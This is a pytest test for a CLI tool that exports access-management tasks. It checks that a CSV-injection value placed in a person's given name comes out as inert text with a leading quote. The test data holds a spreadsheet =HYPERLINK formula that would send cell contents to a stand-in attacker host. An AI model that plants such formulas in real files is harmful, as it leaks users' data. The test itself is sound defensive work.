"""A task list opened in a spreadsheet runs no formula: a hostile given name on the
quickstart's badges (a manual source) reaches tasks.csv and ``tasks list --format csv``
as text (OWASP's single-quote prefix), never as ``=HYPERLINK(...)``."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner, Result

from accesshive.cli import main
from accesshive.csv_export import FORMULA_STARTS

TODAY = "2026-11-29"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"ok")'


def _run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


def test_a_formula_in_a_given_name_reaches_the_task_csvs_as_text(quickstart: Path) -> None:
    people = quickstart / "identities" / "people.yaml"
    yaml_name = HOSTILE.replace('"', '\\"')
    people.write_text(
        people.read_text().replace("given_name: Grace", f'given_name: "{yaml_name}"', 1)
    )
    assert _run("sync", str(quickstart)).exit_code == 0
    applied = _run("apply", str(quickstart), "--auto-approve", "--today", TODAY)
    assert applied.exit_code in (0, 6), applied.output

    files = sorted((quickstart / ".accesshive" / "runs").glob("*/tasks.csv"))
    assert files
    listed = _run("tasks", "list", str(quickstart), "--format", "csv")
    assert listed.exit_code == 0, listed.output
    for text in (files[-1].read_text(encoding="utf-8"), listed.stdout):
        rows = _rows(text)
        _assert_inert(rows)
        header, body = rows[0], rows[1:]
        accounts = [dict(zip(header, row, strict=True))["account"] for row in body]
        # the value is all there, after the quote a spreadsheet reads as "this is text"
        assert f"'{HOSTILE} Hopper" in accounts, accounts
